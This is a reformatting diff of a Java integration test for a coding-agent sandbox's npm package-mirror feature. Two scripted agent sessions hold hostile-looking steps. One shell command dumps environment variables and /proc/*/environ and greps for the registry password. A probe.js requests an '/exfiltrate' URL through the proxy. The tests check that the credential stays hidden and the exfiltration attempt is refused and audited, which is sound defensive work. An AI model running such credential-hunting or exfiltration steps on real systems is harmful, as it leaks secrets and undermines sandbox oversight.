@@ -46,36 +46,54 @@ import org.junit.jupiter.api.Test;
 @QuarkusTestResource(RealServices.class)
 @QuarkusTestResource(DroidTestServices.class)
 class PackageMirrorSessionTest {
-    static final String BUGGY = "const { twice } = require('demo-math');\nmodule.exports.quadruple = x => twice(x) + 1;\n";
+    static final String BUGGY =
+            "const { twice } = require('demo-math');\nmodule.exports.quadruple = x => twice(x) + 1;\n";
     static Verdaccio registry;
     static Path registryDir;
 
-    @Inject EventLog log;
-    @Inject DataSource ds;
+    @Inject
+    EventLog log;
+
+    @Inject
+    DataSource ds;
 
     @BeforeAll
     static void registryAndScripts() throws Exception {
         registryDir = Files.createTempDirectory(DroidTestServices.mirrorRoot.getParent(), "verdaccio-");
         registry = Verdaccio.start(registryDir);
         Path pkg = Files.createDirectories(registryDir.resolve("demo-math"));
-        Files.writeString(pkg.resolve("package.json"), "{\"name\":\"demo-math\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n");
+        Files.writeString(
+                pkg.resolve("package.json"), "{\"name\":\"demo-math\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n");
         Files.writeString(pkg.resolve("index.js"), "module.exports.twice = x => 2 * x;\n");
         registry.publish(pkg);
         npmRepo("droid-npm");
-        String search = "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; grep -rl -e " + split(Verdaccio.PASSWORD) + " -e "
-                + split(Base64.getEncoder().encodeToString(registry.credential().getBytes(StandardCharsets.UTF_8))) + " $HOME /workspace /tmp /run 2>/dev/null; echo searched";
-        DroidTestServices.SCRIPTS.put("fix-npm", script(
-                calls("run_command", args("command", search)),
-                calls("run_tests", "{}"),
-                calls("edit_file", args("path", "calc.js", "old_text", "twice(x) + 1", "new_text", "twice(twice(x)) / 2")),
-                calls("run_tests", "{}"),
-                calls("finish", args("summary", "quadruple() added one instead of doubling twice."))));
-        DroidTestServices.SCRIPTS.put("npm-steal", script(
-                calls("create_file", args("path", "probe.js", "content",
-                        "require('http').get({host: '127.0.0.1', port: 3128, path: 'http://127.0.0.1:9/exfiltrate'}, r => { let b = ''; "
-                                + "r.on('data', d => b += d); r.on('end', () => console.log(r.statusCode + ' ' + b)); }).on('error', e => console.log('error ' + e.message));\n")),
-                calls("run_command", args("command", "node probe.js")),
-                calls("ask_user", args("question", "Done?"))));
+        String search = "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; grep -rl -e "
+                + split(Verdaccio.PASSWORD) + " -e "
+                + split(Base64.getEncoder().encodeToString(registry.credential().getBytes(StandardCharsets.UTF_8)))
+                + " $HOME /workspace /tmp /run 2>/dev/null; echo searched";
+        DroidTestServices.SCRIPTS.put(
+                "fix-npm",
+                script(
+                        calls("run_command", args("command", search)),
+                        calls("run_tests", "{}"),
+                        calls(
+                                "edit_file",
+                                args("path", "calc.js", "old_text", "twice(x) + 1", "new_text", "twice(twice(x)) / 2")),
+                        calls("run_tests", "{}"),
+                        calls("finish", args("summary", "quadruple() added one instead of doubling twice."))));
+        DroidTestServices.SCRIPTS.put(
+                "npm-steal",
+                script(
+                        calls(
+                                "create_file",
+                                args(
+                                        "path",
+                                        "probe.js",
+                                        "content",
+                                        "require('http').get({host: '127.0.0.1', port: 3128, path: 'http://127.0.0.1:9/exfiltrate'}, r => { let b = ''; "
+                                                + "r.on('data', d => b += d); r.on('end', () => console.log(r.statusCode + ' ' + b)); }).on('error', e => console.log('error ' + e.message));\n")),
+                        calls("run_command", args("command", "node probe.js")),
+                        calls("ask_user", args("question", "Done?"))));
     }
 
     /** The text as the shell sees it, but not as one string in the command line (which the event log keeps). */
@@ -100,26 +118,53 @@ class PackageMirrorSessionTest {
     @BeforeEach
     void demoWorkspaceWithMirror() throws Exception {
         // every test starts with a cold npm cache (the caches test of sandbox-manager covers warm ones)
-        Path caches = Path.of(org.eclipse.microprofile.config.ConfigProvider.getConfig().getValue("drydock.sandbox.local.dependency-caches", String.class));
+        Path caches = Path.of(org.eclipse.microprofile.config.ConfigProvider.getConfig()
+                .getValue("drydock.sandbox.local.dependency-caches", String.class));
         Path npm = caches.resolve("demo").resolve("npm");
         if (Files.isDirectory(npm)) {
             try (var files = Files.walk(npm)) {
-                files.sorted(java.util.Comparator.reverseOrder()).forEach(f -> f.toFile().delete());
+                files.sorted(java.util.Comparator.reverseOrder())
+                        .forEach(f -> f.toFile().delete());
             }
         }
-        try (var c = ds.getConnection(); var ps = c.prepareStatement(
-                "insert into workspace(slug, display_name, created_at, autonomy) values ('demo', 'demo', now(), 'auto-edit') "
-                        + "on conflict (slug) do update set autonomy = 'auto-edit', allowed_droids = 'code,knowledge,reliability', allowed_routes = '*', classification = 'internal'")) {
+        try (var c = ds.getConnection();
+                var ps = c.prepareStatement(
+                        "insert into workspace(slug, display_name, created_at, autonomy) values ('demo', 'demo', now(), 'auto-edit') "
+                                + "on conflict (slug) do update set autonomy = 'auto-edit', allowed_droids = 'code,knowledge,reliability', allowed_routes = '*', classification = 'internal'")) {
             ps.executeUpdate();
         }
-        given().auth().oauth2(Tokens.of("alice")).contentType(ContentType.JSON).body(Map.of("kind", "npm", "url", registry.url()))
-                .when().put("/api/admin/package-mirrors/corp-npm").then().statusCode(200);
-        given().auth().oauth2(Tokens.of("wanda")).contentType(ContentType.JSON).body(Map.of("value", registry.credential()))
-                .when().put("/api/workspaces/demo/secrets/npm-registry").then().statusCode(200);
-        given().auth().oauth2(Tokens.of("wanda")).contentType(ContentType.JSON).body(Map.of("credentialsSecret", "npm-registry"))
-                .when().put("/api/workspaces/demo/package-mirrors/corp-npm").then().statusCode(200);
-        given().auth().oauth2(Tokens.of("wanda")).contentType(ContentType.JSON).body(Map.of("command", "npm ci"))
-                .when().put("/api/workspaces/demo/repositories/droid-npm/setup").then().statusCode(200);
+        given().auth()
+                .oauth2(Tokens.of("alice"))
+                .contentType(ContentType.JSON)
+                .body(Map.of("kind", "npm", "url", registry.url()))
+                .when()
+                .put("/api/admin/package-mirrors/corp-npm")
+                .then()
+                .statusCode(200);
+        given().auth()
+                .oauth2(Tokens.of("wanda"))
+                .contentType(ContentType.JSON)
+                .body(Map.of("value", registry.credential()))
+                .when()
+                .put("/api/workspaces/demo/secrets/npm-registry")
+                .then()
+                .statusCode(200);
+        given().auth()
+                .oauth2(Tokens.of("wanda"))
+                .contentType(ContentType.JSON)
+                .body(Map.of("credentialsSecret", "npm-registry"))
+                .when()
+                .put("/api/workspaces/demo/package-mirrors/corp-npm")
+                .then()
+                .statusCode(200);
+        given().auth()
+                .oauth2(Tokens.of("wanda"))
+                .contentType(ContentType.JSON)
+                .body(Map.of("command", "npm ci"))
+                .when()
+                .put("/api/workspaces/demo/repositories/droid-npm/setup")
+                .then()
+                .statusCode(200);
     }
 
     @Test
@@ -135,17 +180,31 @@ class PackageMirrorSessionTest {
         List<Observation.CommandFinished> runs = observations(id, Observation.CommandFinished.class);
         assertThat(runs).extracting(Observation.CommandFinished::exitCode).containsExactly(0, 1, 0);
         assertThat(runs.get(1).output()).contains("expected 8, got 9");
-        assertThat(runs.get(0).output()).contains("searched").contains("http_proxy=http://127.0.0.1:3128").doesNotContain("CREDENTIAL");
-        Telemetry.SetupCompleted setup = observations(id, Telemetry.SetupCompleted.class).getFirst();
-        assertThat(setup).isEqualTo(new Telemetry.SetupCompleted("npm ci", "registration", List.of("corp-npm"), List.of("npm-registry")));
-        assertThat(observations(id, Telemetry.MirrorRequested.class)).isNotEmpty()
-                .allSatisfy(r -> assertThat(r.allowed()).isTrue()).anySatisfy(r -> assertThat(r.setup()).isTrue());
+        assertThat(runs.get(0).output())
+                .contains("searched")
+                .contains("http_proxy=http://127.0.0.1:3128")
+                .doesNotContain("CREDENTIAL");
+        Telemetry.SetupCompleted setup =
+                observations(id, Telemetry.SetupCompleted.class).getFirst();
+        assertThat(setup)
+                .isEqualTo(new Telemetry.SetupCompleted(
+                        "npm ci", "registration", List.of("corp-npm"), List.of("npm-registry")));
+        assertThat(observations(id, Telemetry.MirrorRequested.class))
+                .isNotEmpty()
+                .allSatisfy(r -> assertThat(r.allowed()).isTrue())
+                .anySatisfy(r -> assertThat(r.setup()).isTrue());
         // and no credential anywhere: not in the droid's view, the event log or the audit trail
         String base64 = Base64.getEncoder().encodeToString(registry.credential().getBytes(StandardCharsets.UTF_8));
         assertThat(story(id)).doesNotContain(Verdaccio.PASSWORD).doesNotContain(base64);
-        assertThat(audit()).anySatisfy(a -> assertThat(a).contains("sandbox.setup").contains("npm ci").contains("npm-registry"))
-                .anySatisfy(a -> assertThat(a).contains("workspace-mirror.chosen")).anySatisfy(a -> assertThat(a).contains("package-mirror."))
-                .noneSatisfy(a -> assertThat(a).contains(Verdaccio.PASSWORD)).noneSatisfy(a -> assertThat(a).contains(base64));
+        assertThat(audit())
+                .anySatisfy(a -> assertThat(a)
+                        .contains("sandbox.setup")
+                        .contains("npm ci")
+                        .contains("npm-registry"))
+                .anySatisfy(a -> assertThat(a).contains("workspace-mirror.chosen"))
+                .anySatisfy(a -> assertThat(a).contains("package-mirror."))
+                .noneSatisfy(a -> assertThat(a).contains(Verdaccio.PASSWORD))
+                .noneSatisfy(a -> assertThat(a).contains(base64));
     }
 
     @Test
@@ -157,59 +216,135 @@ class PackageMirrorSessionTest {
         await(id, s -> s.getString("status").equals("waiting_for_answer"));
 
         // Then the proxy refused the request, the session log has it, and so does the audit trail
-        assertThat(observations(id, Observation.CommandFinished.class).getFirst().output())
+        assertThat(observations(id, Observation.CommandFinished.class)
+                        .getFirst()
+                        .output())
                 .contains("403 drydock: 127.0.0.1:9 is not a package mirror this workspace allows");
-        assertThat(observations(id, Telemetry.MirrorRequested.class)).filteredOn(r -> !r.allowed())
-                .containsExactly(new Telemetry.MirrorRequested("GET", "http://127.0.0.1:9/exfiltrate", "", false, false));
-        assertThat(audit()).anySatisfy(a -> assertThat(a).contains("mirror.refused").contains("http://127.0.0.1:9/exfiltrate").contains(id));
+        assertThat(observations(id, Telemetry.MirrorRequested.class))
+                .filteredOn(r -> !r.allowed())
+                .containsExactly(
+                        new Telemetry.MirrorRequested("GET", "http://127.0.0.1:9/exfiltrate", "", false, false));
+        assertThat(audit())
+                .anySatisfy(a -> assertThat(a)
+                        .contains("mirror.refused")
+                        .contains("http://127.0.0.1:9/exfiltrate")
+                        .contains(id));
     }
 
     @Test
     void shouldAnswerProblemsWhenMirrorPolicyInputIsWrong() {
         // Given a member who is no admin, and inputs that name nothing declared
         // When / Then each is refused with a problem that says what to fix
-        given().auth().oauth2(Tokens.of("alice")).contentType(ContentType.JSON).body(Map.of("kind", "cargo", "url", "http://x.corp/"))
-                .when().put("/api/admin/package-mirrors/bad").then().statusCode(400).contentType("application/problem+json")
+        given().auth()
+                .oauth2(Tokens.of("alice"))
+                .contentType(ContentType.JSON)
+                .body(Map.of("kind", "cargo", "url", "http://x.corp/"))
+                .when()
+                .put("/api/admin/package-mirrors/bad")
+                .then()
+                .statusCode(400)
+                .contentType("application/problem+json")
                 .body("errors[0].field", org.hamcrest.Matchers.equalTo("kind"));
-        given().auth().oauth2(Tokens.of("alice")).contentType(ContentType.JSON).body(Map.of("kind", "npm", "url", "http://u:p@x.corp/"))
-                .when().put("/api/admin/package-mirrors/bad").then().statusCode(400).body("detail", org.hamcrest.Matchers.containsString("credentials"));
-        given().auth().oauth2(Tokens.of("wanda")).contentType(ContentType.JSON).body(Map.of("kind", "npm", "url", "http://x.corp/"))
-                .when().put("/api/admin/package-mirrors/bad").then().statusCode(403);
-        given().auth().oauth2(Tokens.of("wanda")).contentType(ContentType.JSON).body(Map.of())
-                .when().put("/api/workspaces/demo/package-mirrors/nowhere").then().statusCode(404).contentType("application/problem+json");
-        given().auth().oauth2(Tokens.of("wanda")).contentType(ContentType.JSON).body(Map.of("credentialsSecret", "missing"))
-                .when().put("/api/workspaces/demo/package-mirrors/corp-npm").then().statusCode(400).body("errors[0].field", org.hamcrest.Matchers.equalTo("credentialsSecret"));
-        given().auth().oauth2(Tokens.of("mike")).contentType(ContentType.JSON).body(Map.of())
-                .when().put("/api/workspaces/demo/package-mirrors/corp-npm").then().statusCode(403);
-        given().auth().oauth2(Tokens.of("mike")).when().get("/api/workspaces/demo/package-mirrors").then().statusCode(200)
+        given().auth()
+                .oauth2(Tokens.of("alice"))
+                .contentType(ContentType.JSON)
+                .body(Map.of("kind", "npm", "url", "http://u:p@x.corp/"))
+                .when()
+                .put("/api/admin/package-mirrors/bad")
+                .then()
+                .statusCode(400)
+                .body("detail", org.hamcrest.Matchers.containsString("credentials"));
+        given().auth()
+                .oauth2(Tokens.of("wanda"))
+                .contentType(ContentType.JSON)
+                .body(Map.of("kind", "npm", "url", "http://x.corp/"))
+                .when()
+                .put("/api/admin/package-mirrors/bad")
+                .then()
+                .statusCode(403);
+        given().auth()
+                .oauth2(Tokens.of("wanda"))
+                .contentType(ContentType.JSON)
+                .body(Map.of())
+                .when()
+                .put("/api/workspaces/demo/package-mirrors/nowhere")
+                .then()
+                .statusCode(404)
+                .contentType("application/problem+json");
+        given().auth()
+                .oauth2(Tokens.of("wanda"))
+                .contentType(ContentType.JSON)
+                .body(Map.of("credentialsSecret", "missing"))
+                .when()
+                .put("/api/workspaces/demo/package-mirrors/corp-npm")
+                .then()
+                .statusCode(400)
+                .body("errors[0].field", org.hamcrest.Matchers.equalTo("credentialsSecret"));
+        given().auth()
+                .oauth2(Tokens.of("mike"))
+                .contentType(ContentType.JSON)
+                .body(Map.of())
+                .when()
+                .put("/api/workspaces/demo/package-mirrors/corp-npm")
+                .then()
+                .statusCode(403);
+        given().auth()
+                .oauth2(Tokens.of("mike"))
+                .when()
+                .get("/api/workspaces/demo/package-mirrors")
+                .then()
+                .statusCode(200)
                 .body("mirror", org.hamcrest.Matchers.hasItem("corp-npm"));
     }
 
     <T> List<T> observations(String id, Class<T> type) {
-        return log.readAll(id).stream().map(Event::payload).filter(type::isInstance).map(type::cast).toList();
+        return log.readAll(id).stream()
+                .map(Event::payload)
+                .filter(type::isInstance)
+                .map(type::cast)
+                .toList();
     }
 
     List<String> audit() throws Exception {
         List<String> out = new ArrayList<>();
-        try (var c = ds.getConnection(); var ps = c.prepareStatement("select actor, action, target, details, session_id from audit_record order by seq"); var rs = ps.executeQuery()) {
+        try (var c = ds.getConnection();
+                var ps = c.prepareStatement(
+                        "select actor, action, target, details, session_id from audit_record order by seq");
+                var rs = ps.executeQuery()) {
             while (rs.next()) {
-                out.add(rs.getString(1) + "|" + rs.getString(2) + "|" + rs.getString(3) + "|" + rs.getString(4) + "|" + rs.getString(5));
+                out.add(rs.getString(1) + "|" + rs.getString(2) + "|" + rs.getString(3) + "|" + rs.getString(4) + "|"
+                        + rs.getString(5));
             }
         }
         return out;
     }
 
     String create(String task, String repo) {
-        return given().auth().oauth2(Tokens.of("mike")).contentType(ContentType.JSON)
+        return given().auth()
+                .oauth2(Tokens.of("mike"))
+                .contentType(ContentType.JSON)
                 .body(Map.of("workspace", "demo", "droid", "code", "task", task, "repo", repo))
-                .when().post("/api/sessions")
-                .then().statusCode(201).extract().path("id");
+                .when()
+                .post("/api/sessions")
+                .then()
+                .statusCode(201)
+                .extract()
+                .path("id");
     }
 
     JsonPath await(String id, Predicate<JsonPath> done) throws InterruptedException {
         return Poll.until(
-                () -> given().auth().oauth2(Tokens.of("mike")).when().get("/api/sessions/" + id).then().statusCode(200).extract().jsonPath(),
-                done, Duration.ofMinutes(4), s -> "session " + id + ": " + s.prettify() + "\n" + story(id));
+                () -> given().auth()
+                        .oauth2(Tokens.of("mike"))
+                        .when()
+                        .get("/api/sessions/" + id)
+                        .then()
+                        .statusCode(200)
+                        .extract()
+                        .jsonPath(),
+                done,
+                Duration.ofMinutes(4),
+                s -> "session " + id + ": " + s.prettify() + "\n" + story(id));
     }
 
     String story(String id) {
@@ -224,26 +359,52 @@ class PackageMirrorSessionTest {
     static void npmRepo(String name) throws Exception {
         Path bare = DroidTestServices.mirrorRoot.resolve("demo").resolve(name + ".git");
         Path src = Files.createTempDirectory(DroidTestServices.mirrorRoot, "src-");
-        Files.writeString(src.resolve("package.json"),
+        Files.writeString(
+                src.resolve("package.json"),
                 "{\"name\":\"calc\",\"version\":\"1.0.0\",\"private\":true,\"dependencies\":{\"demo-math\":\"1.0.0\"},\"scripts\":{\"test\":\"node test.js\"}}\n");
         Path npmrc = registryDir.resolve("lock.npmrc");
-        Files.writeString(npmrc, "registry=" + registry.url() + "\n//127.0.0.1:" + registry.port() + "/:_auth="
-                + Base64.getEncoder().encodeToString(registry.credential().getBytes(StandardCharsets.UTF_8)) + "\n");
-        Process p = new ProcessBuilder("npm", "install", "--no-audit", "--no-fund", "--userconfig", npmrc.toString(), "--cache", registryDir.resolve("lock-cache").toString())
-                .directory(src.toFile()).redirectErrorStream(true).start();
+        Files.writeString(
+                npmrc,
+                "registry=" + registry.url() + "\n//127.0.0.1:" + registry.port() + "/:_auth="
+                        + Base64.getEncoder()
+                                .encodeToString(registry.credential().getBytes(StandardCharsets.UTF_8)) + "\n");
+        Process p = new ProcessBuilder(
+                        "npm",
+                        "install",
+                        "--no-audit",
+                        "--no-fund",
+                        "--userconfig",
+                        npmrc.toString(),
+                        "--cache",
+                        registryDir.resolve("lock-cache").toString())
+                .directory(src.toFile())
+                .redirectErrorStream(true)
+                .start();
         String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
         if (p.waitFor() != 0) {
             throw new IllegalStateException("npm install for the lock file failed: " + out);
         }
         Files.writeString(src.resolve(".gitignore"), "node_modules/\n");
         Files.writeString(src.resolve("calc.js"), BUGGY);
-        Files.writeString(src.resolve("test.js"),
+        Files.writeString(
+                src.resolve("test.js"),
                 "const { quadruple } = require('./calc');\nconst got = quadruple(4);\nif (got !== 8) { console.error('expected 8, got ' + got); process.exit(1); }\nconsole.log('ok');\n");
-        try (Git git = Git.init().setDirectory(src.toFile()).setInitialBranch("main").call()) {
+        try (Git git =
+                Git.init().setDirectory(src.toFile()).setInitialBranch("main").call()) {
             git.add().addFilepattern(".").call();
             PersonIdent who = new PersonIdent("Test", "test@drydock.invalid");
-            git.commit().setMessage("calc with a bug").setAuthor(who).setCommitter(who).setSign(false).call();
+            git.commit()
+                    .setMessage("calc with a bug")
+                    .setAuthor(who)
+                    .setCommitter(who)
+                    .setSign(false)
+                    .call();
         }
-        Git.cloneRepository().setURI(src.toUri().toString()).setBare(true).setDirectory(bare.toFile()).call().close();
+        Git.cloneRepository()
+                .setURI(src.toUri().toString())
+                .setBare(true)
+                .setDirectory(bare.toFile())
+                .call()
+                .close();
     }
 }
